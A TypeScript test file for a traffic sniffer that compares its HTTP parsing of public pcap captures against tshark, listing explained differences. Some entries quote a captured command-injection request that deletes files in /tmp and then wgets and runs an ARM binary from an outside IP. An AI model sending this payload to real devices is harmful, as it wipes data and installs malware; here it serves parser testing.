import { assert, assertEquals } from "@std/assert";
import { Pipeline } from "../../src/app/pipeline.ts";
import type { Exchange } from "../../src/http/exchange.ts";
import { SavefileReader } from "../../src/savefile.ts";
import { corpusTest, openCapture, readIfThere, tableRow, without } from "../support/corpus.ts";
import { parseTable, readTruth, requestText, type Truth } from "../support/tshark_truth.ts";

/**
 * Captures that others made, compared exchange by exchange with what tshark says of them. `TRAFFICSNIFFER_CORPUS` names
 * the folder: `captures/`, `truth/` and `INDEX.tsv`, which lists the captures.
 */

/** Differences that are right, or where the comparison does not apply. */
interface Explained {
  readonly file: string;
  /** As {@link compare} words them. */
  readonly differences: readonly string[];
  readonly reason: string;
}

const EXPLAINED: readonly Explained[] = [
  {
    file: "OISF__suricata-verify__bug-5437-01--input.pcap",
    differences: [
      "frame 1: GET 127.0.0.1:80 /shell?cd+/tmp;rm+-rf+*;wget+ HTTP/http://23.94.7.175/.s4y/arm;sh+/tmp/arm 1.1, " +
      "ours GET 127.0.0.1:80 /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm HTTP/1.1",
      "frame 2: GET 127.0.0.1:80 /shell?cd+/tmp;rm+-rf+*;wget+ HTTP/http://23.94.7.175/.s4y/arm;sh+/tmp/arm 1.1, " +
      "ours GET 127.0.0.1:80 /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm HTTP/1.1",
    ],
    reason: "a target with a space in it: tshark ends it there and takes the rest for the version",
  },
  {
    file: "OISF__suricata-verify__bug-5437-02--input.pcap",
    differences: [
      "frame 14: GET 127.0.0.1:80 /shell?cd+/tmp;rm+-rf+*;wget+ HTTP/http://23.94.7.175/.s4y/arm;sh+/tmp/arm 1.1, " +
      "ours GET 127.0.0.1:80 /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm HTTP/1.1",
      "frame 17: GET 127.0.0.1:80 /shell?cd+/tmp;rm+-rf+*;wget+ HTTP/http://23.94.7.175/.s4y/arm;sh+/tmp/arm 1.1, " +
      "ours GET 127.0.0.1:80 /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm HTTP/1.1",
    ],
    reason: "a target with a space in it: tshark ends it there and takes the rest for the version",
  },
  {
    file: "OISF__suricata-verify__http-uri-spaces--input.pcap",
    differences: [
      "frame 5: GET 127.0.0.1:8000 /uri HTTP/afterspace 1.1, ours GET 127.0.0.1:8000 /uri afterspace HTTP/1.1",
    ],
    reason: "a target with a space in it: tshark ends it there and takes the rest for the version",
  },
  {
    file: "OISF__suricata-verify__ruletype-firewall-88-default-accept-tx-pipeline--input.pcap",
    differences: ["frame 4: status 0, ours 200", "responses without request: 1, ours 0"],
    reason:
      "two pipelined requests in frame 4, answered in frames 6 and 8: tshark keeps one response a frame",
  },
  {
    file: "OISF__suricata-verify__transform-base64-7296--input.pcap",
    differences: [
      "additional on 127.0.0.1:57226 > 127.0.0.1:8080: GET 127.0.0.1:8080 /eicar HTTP/1.1, status 0",
    ],
    reason:
      "fuzzed time stamps: frame 8 says that two years have passed, in which connections are forgotten, so that " +
      "the retransmission of frame 5 in frame 53 is not known as one",
  },
  {
    file: "andrewf__pcap2har__sajal.pcap",
    differences: ["responses without request: 1, ours 0"],
    reason: "frame 838 is a retransmission of frame 821, as tshark itself notes, and no second response",
  },
  {
    file: "colinnewell__pcap2har-go__insecure.pcap",
    differences: [
      "additional on 192.168.32.4:34980 > 192.168.32.3:5000: GET demo /admin/fish-and-chips HTTP/1.0, status 200",
    ],
    reason: "frames 396 to 412 are HTTP; tshark takes them for EtherCAT because of the client's port 34980",
  },
  {
    file: "ruedigergad__clj-net-pcap__test-l2tp.pcap",
    differences: [116, 134, 149, 156].map((frame) =>
      `frame ${frame} missing: GET 172.16.10.2 /Xfiles%202.ico HTTP/1.0`
    ),
    reason:
      "retransmissions of frame 90 with the same sequence number, as tshark itself notes: without reassembly it " +
      "counts them again",
  },
  {
    file: "seladb__PcapPlusPlus__example.pcap",
    differences: [
      "additional on 10.0.0.4:49682 > 10.0.0.138:5005: SUBSCRIBE 10.0.0.138:5005 /evt/CmnIfCfg HTTP/1.1, status 200",
      "responses without request: 1, ours 0",
    ],
    reason:
      "tshark shows the method in frame 3416 and does not mark the message as a request, so that its response in " +
      "frame 3420 has none",
  },
  {
    file: "zeek__zeek__no-uri.pcap",
    differences: ["frame 4: GET bro.org HTTP/1.1 HTTP/, ours GET bro.org  HTTP/1.1"],
    reason: "a request line without target: tshark takes the version for it",
  },
  {
    file: "zeek__zeek__variant-09-te_obs_fold.pcap",
    differences: [
      "additional on 192.168.1.100:40009 > 192.168.1.200:80: GET target /smuggled-obsfold HTTP/1.1, status 0",
    ],
    reason:
      "the value of Transfer-Encoding in frame 4 stands on a line of its own (RFC 9112 section 5.2): tshark does " +
      "not unfold it and takes all that follows for the body, as Zeek does not",
  },
  {
    file: "zeek__zeek__vxlan-overlapping-http-get.pcap",
    differences: [1, 2].map(() =>
      "additional on 141.142.228.5:59856 > 192.150.187.43:80: GET bro.org /download/CHANGES.bro-aux.txt HTTP/1.1, " +
      "status 200"
    ),
    reason:
      "the same connection in three VXLAN networks: tshark takes them for one and the others for retransmissions",
  },
];

/** What one capture holds by our own reading. */
interface Ours {
  readonly requests: readonly Exchange[];
  /** Responses to no request, or to one that could not be told. */
  readonly orphans: number;
}

interface Comparison {
  readonly requests: number;
  readonly responses: number;
  /** Requests and responses that are the same. */
  readonly equal: number;
  readonly differences: readonly string[];
}

/** A corpus with less proves nothing. */
const FEWEST = { files: 50, requests: 500, responses: 500 };

corpusTest(
  "every capture of TRAFFICSNIFFER_CORPUS is read as tshark does, or the difference is explained",
  compareAll,
);

async function compareAll(folder: string): Promise<void> {
  const index = parseTable(Deno.readTextFileSync(`${folder}/INDEX.tsv`));
  const total = { files: 0, requests: 0, responses: 0, equal: 0, explained: 0 };
  const table: string[] = [];
  const unexplained: string[] = [];
  const stale: string[] = [];
  for (const row of index) {
    const file = row.get("file")!;
    const truth = readTruth(file, (path) => readIfThere(`${folder}/truth/${path}`));
    const ours = await readCapture(`${folder}/captures/${file}`);
    const { requests, responses, equal, differences } = compare(truth, ours);
    const explained = EXPLAINED.filter((it) => it.file === file).flatMap((it) => it.differences);
    unexplained.push(...without(differences, explained).map((difference) => `${file}: ${difference}`));
    stale.push(...without(explained, differences).map((difference) => `${file}: ${difference}`));
    assert(requests >= Number(row.get("n_req_cleartext")), `${file}: requests are missing from the truth`);
    total.files++;
    total.requests += requests;
    total.responses += responses;
    total.equal += equal;
    total.explained += differences.length;
    if (differences.length > 0) table.push(tableRow(file, requests, responses, equal, differences.length));
  }
  console.log([
    tableRow("captures with differences", "requests", "responses", "equal", "explained"),
    ...table,
    tableRow(`all ${total.files} captures`, total.requests, total.responses, total.equal, total.explained),
  ].join("\n"));
  assertEquals(unexplained, [], "differences that nobody has explained");
  assertEquals(stale, [], "explained differences that are none any more");
  for (const figure of ["files", "requests", "responses"] as const) {
    assert(total[figure] >= FEWEST[figure], `only ${total[figure]} ${figure}`);
  }
}

/** Reads a capture as the program reads a file without options. */
async function readCapture(path: string): Promise<Ours> {
  const requests: Exchange[] = [];
  let unanswered = 0;
  const pipeline = new Pipeline({
    request: (exchange) => requests.push(exchange),
    exchange: (exchange) => {
      // A response of HTTP/0.9 has no status.
      const isAnswered = exchange.status !== 0 ||
        (exchange.version === "0.9" && exchange.receive !== undefined);
      if (!isAnswered) unanswered++;
    },
  }, { ports: [80], keepQuery: true });
  const reader = new SavefileReader();
  for await (const chunk of await openCapture(path)) reader.push(chunk, pipeline.frame);
  reader.end();
  pipeline.flush();
  return { requests, orphans: pipeline.figures({ kernel: 0, interface: 0 }).unpaired - unanswered };
}

/** Compares connection by connection, and on each in order. */
function compare(truth: Truth, ours: Ours): Comparison {
  const differences: string[] = [];
  let equal = Math.min(truth.orphans.length, ours.orphans);
  const expected = Map.groupBy(truth.requests, ({ client, server }) => `${client} > ${server}`);
  const found = Map.groupBy(
    ours.requests,
    ({ endpoints: e }) => `${e.clientAddress}:${e.clientPort} > ${e.serverAddress}:${e.serverPort}`,
  );
  for (const connection of new Set([...expected.keys(), ...found.keys()])) {
    const theirs = expected.get(connection) ?? [];
    const own = found.get(connection) ?? [];
    for (const [i, j] of align(theirs.map(({ text }) => text), own.map(textOf))) {
      const request = theirs[i ?? -1], exchange = own[j ?? -1];
      if (request && exchange) {
        const text = textOf(exchange);
        const { frame, status, grpcStatus } = request;
        if (request.text === text) equal++;
        else differences.push(`frame ${frame}: ${request.text}, ours ${text}`);
        if (status !== exchange.status) {
          differences.push(`frame ${frame}: status ${status}, ours ${exchange.status}`);
        } else if (grpcStatus !== exchange.grpcStatus) {
          differences.push(`frame ${frame}: gRPC status ${grpcStatus}, ours ${exchange.grpcStatus}`);
        } else if (status !== 0) {
          equal++;
        }
      } else if (request) {
        differences.push(`frame ${request.frame} missing: ${request.text}`);
      } else if (exchange) {
        differences.push(`additional on ${connection}: ${textOf(exchange)}, status ${exchange.status}`);
      }
    }
  }
  if (truth.orphans.length !== ours.orphans) {
    differences.push(`responses without request: ${truth.orphans.length}, ours ${ours.orphans}`);
  }
  return { requests: truth.requests.length, responses: truth.responses, equal, differences };
}

function textOf(exchange: Exchange): string {
  const { method, host, hostMissing, port, path, query, version } = exchange;
  return requestText({
    method,
    host: hostMissing ? "" : host,
    port: port === undefined ? "" : String(port),
    target: query === undefined ? path : `${path}?${query}`,
    version,
  });
}

/**
 * Which entry of one list is which of the other, by position, in order: equal ones by the longest common subsequence,
 * and of those between them, where both lists have some, the first with the first.
 */
function align(a: readonly string[], b: readonly string[]): [number | undefined, number | undefined][] {
  const width = b.length + 1;
  const lengths = new Uint32Array((a.length + 1) * width);
  for (let i = a.length - 1; i >= 0; i--) {
    for (let j = b.length - 1; j >= 0; j--) {
      lengths[i * width + j] = a[i] === b[j]
        ? lengths[(i + 1) * width + j + 1]! + 1
        : Math.max(lengths[(i + 1) * width + j]!, lengths[i * width + j + 1]!);
    }
  }
  const pairs: [number | undefined, number | undefined][] = [];
  let onlyA: number[] = [], onlyB: number[] = [];
  const pairOthers = () => {
    for (let i = 0; i < Math.max(onlyA.length, onlyB.length); i++) pairs.push([onlyA[i], onlyB[i]]);
    [onlyA, onlyB] = [[], []];
  };
  for (let i = 0, j = 0; i < a.length || j < b.length;) {
    if (i < a.length && j < b.length && a[i] === b[j]) {
      pairOthers();
      pairs.push([i++, j++]);
    } else if (
      j === b.length || (i < a.length && lengths[(i + 1) * width + j]! >= lengths[i * width + j + 1]!)
    ) {
      onlyA.push(i++);
    } else {
      onlyB.push(j++);
    }
  }
  pairOthers();
  return pairs;
}
